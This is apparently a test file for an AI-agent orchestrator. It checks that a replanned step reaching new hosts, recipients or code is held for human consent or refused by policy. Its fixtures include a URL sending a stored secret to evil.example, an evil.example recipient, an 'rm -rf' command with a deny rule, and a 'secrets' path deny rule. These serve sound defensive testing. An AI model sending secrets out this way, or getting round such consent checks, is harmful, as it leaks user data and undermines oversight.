/* A replan reaches no further than the plans before it, however its arguments come to what they name. */
import { describe, expect, it } from 'vitest';
import { MemoryRunStore } from '../../../src/flight/memory-log.ts';
import {
  answerQuestion,
  listQuestions,
  orchestrate,
  replayRun,
  resumeTask,
  type RunOptions,
  ToolError,
} from '../../../src/index.ts';
import type { ArgumentKind } from '../../../src/contracts/tool.ts';
import type { Json } from '../../../src/kernel/json.ts';
import { byRole } from '../../support/composed.ts';
import { echoTool, node, only, plan } from '../../support/core.ts';

const INPUT = { type: 'object', properties: { to: {}, value: {} }, additionalProperties: false } as const;

/** A first plan that fails at its last node, and the plan that takes its place. */
function replanned(second: readonly Json[], policy: Record<string, Json> = {}, more: readonly Json[] = []) {
  const called: Json[] = [];
  let failed = 0;
  const named = (name: string, kind: ArgumentKind) =>
    echoTool(name, {
      ...{ effect: 'write', input: INPUT, argumentKinds: { to: kind } },
      run: (args) => {
        if (JSON.stringify(args).includes('/fails') && failed++ === 0)
          throw new ToolError('MISSING_INFO', 'gone');
        called.push((args as { to: Json }).to);
        return 'ok';
      },
    });
  const first = [
    node('secret', { args: { value: 'S3CRET' } }),
    node('told', { tool: 'tell', args: { to: 'me@good.example' } }),
    node('ran', { tool: 'code', args: { to: 'print(1)' } }),
    ...more,
    node('last', {
      tool: 'page',
      args: { to: 'http://good.example/fails' },
      deps: ['secret', 'told', 'ran'],
    }),
  ];
  const store = new MemoryRunStore();
  const options: RunOptions & { store: MemoryRunStore } = {
    task: { name: 'w', goal: 'Go.', verify: { judge: 'off' }, limits: { replans: 1 }, policy },
    tools: [
      ...[named('page', 'url'), named('tell', 'recipient'), named('code', 'code')],
      echoTool('echo', { input: INPUT }),
    ],
    provider: byRole({
      planner: JSON.stringify(plan(...first)),
      replanner: JSON.stringify(plan(...second)),
    }).provider,
    ...{ store, runId: 'r', workspace: '/' },
  };
  return { options, called };
}

const reach = (to: Json, tool = 'page', more: Record<string, Json> = {}): Json =>
  node('x', { tool, args: { to }, ...more });
const literal = (value: Json): Json => node('lit', { args: { value } });
const EVIL = 'http://evil.example/';

describe('a replan', () => {
  it.each<[how: string, second: Json[], target: string]>([
    ['joins a host', [reach({ $text: ['http://evil.', 'example/'] })], 'host evil.example'],
    [
      'joins a host and a result',
      [reach({ $text: [`${EVIL}?d=`, { $ref: 'secret' }] })],
      'host evil.example',
    ],
    ['has a node give a host', [literal(EVIL), reach({ $ref: 'lit' })], 'host evil.example'],
    [
      'has one for each item',
      [literal([EVIL]), reach({ $item: '' }, 'page', { foreach: { $ref: 'lit' } })],
      'host evil.example',
    ],
    ['puts a host into an object', [reach({ u: EVIL })], 'host evil.example'],
    ['joins a recipient', [reach({ $text: ['you@', 'evil.example'] }, 'tell')], 'recipient you@evil.example'],
    ['joins code', [reach({ $text: ['import os; ', 'os.x()'] }, 'code')], 'code import os; os.x()'],
  ])('that %s is asked about at the call', async (_how, second, target) => {
    const { options, called } = replanned(second);
    expect(await orchestrate(options)).toMatchObject({ status: 'waiting' });
    const before = called.length;
    const [question] = await listQuestions(options.store);
    expect(question).toMatchObject({
      ...{ question: 'consent', tool: (second.at(-1) as { tool: string }).tool },
      dangers: [{ argument: 'to', reason: `${target} is in no plan before the replan` }],
    });
    await answerQuestion(options.store, 'r', question?.node ?? '', { decision: 'approved', by: 'ann' });
    const { tools = [], provider, store } = options;
    await resumeTask('r', { tools, store, ...(provider === undefined ? {} : { provider }) });
    expect(called).toHaveLength(before + 1);
    const report = await replayRun('r', { store, strict: true });
    expect(report).toMatchObject({ divergence: null, warnings: [] });
  });

  it('that names what was named before is not asked about', async () => {
    const { options, called } = replanned([
      reach({ $text: ['http://good.', 'example/', { $ref: 'secret' }] }),
    ]);
    expect(await orchestrate(options)).toMatchObject({ status: 'unverified' });
    expect(called.at(-1)).toBe('http://good.example/S3CRET');
  });

  it('goes on with what the first plan had left, but not where that waits for something else', async () => {
    const link = node('link', { args: { value: 'http://other.example/' } });
    const read = (after: string): Json =>
      node('read', { tool: 'page', args: { to: { $ref: 'link' } }, deps: [after] });
    const last = node('last', {
      ...{ tool: 'page', args: { to: 'http://good.example/fails' } },
      deps: ['secret', 'told', 'ran'],
    });
    const other = node('other', { args: { value: 1 } });
    const end = node('end', { deps: ['read', 'other'] });
    const same = replanned([last, other, read('last'), end], {}, [link, read('last')]);
    expect(await orchestrate(same.options)).toMatchObject({ status: 'unverified' });
    expect(same.called).toContain('http://other.example/');
    const changed = replanned([other, read('other'), end], {}, [link, read('last')]);
    expect(await orchestrate(changed.options)).toMatchObject({ status: 'waiting' });
    expect(changed.called).not.toContain('http://other.example/');
  });

  it('is refused such a call where policy denies it, and makes it where policy allows it', async () => {
    const second = [reach({ $text: ['http://evil.', 'example/'] })];
    const denied = replanned(second, { widened: 'deny' });
    expect(await orchestrate(denied.options)).toMatchObject({ status: 'failed' });
    expect(only(await denied.options.store.read('r'), 'node.refused')).toMatchObject([
      {
        by: 'policy',
        reason: 'page, argument "to": policy.widened: host evil.example is in no plan before the replan',
      },
    ]);
    const allowed = replanned(second, { widened: 'allow' });
    expect(await orchestrate(allowed.options)).toMatchObject({ status: 'unverified' });
  });
});

describe('what arguments name', () => {
  it.each<[kind: ArgumentKind, to: Json, policy: Record<string, Json>]>([
    ['url', { url: 'http://evil.com/' }, { hosts: { allow: ['good.com'] } }],
    ['command', { all: [{ cmd: 'rm -rf x' }] }, { commands: { deny: ['rm **'] } }],
    ['path', { p: 'secrets/x' }, { paths: { deny: ['secrets'] } }],
  ])('is judged within objects too: %s', async (kind, to, policy) => {
    const called: Json[] = [];
    const use = echoTool('use', {
      ...{ effect: 'write', input: INPUT, argumentKinds: { to: kind } },
      run: (args) => called.push(args),
    });
    const store = new MemoryRunStore();
    const result = await orchestrate({
      task: { name: 't', goal: 'g', verify: { judge: 'off' }, limits: { replans: 0 }, policy },
      tools: [use, echoTool('echo', { input: INPUT })],
      provider: byRole({
        planner: JSON.stringify(plan(literal(to), node('x', { tool: 'use', args: { to: { $ref: 'lit' } } }))),
      }).provider,
      ...{ store, runId: 'r', workspace: '/ws' },
    });
    expect([result.status, called]).toEqual(['failed', []]);
    expect(only(await store.read('r'), 'node.refused')).toMatchObject([{ node: 'x', by: 'policy' }]);
  });
});
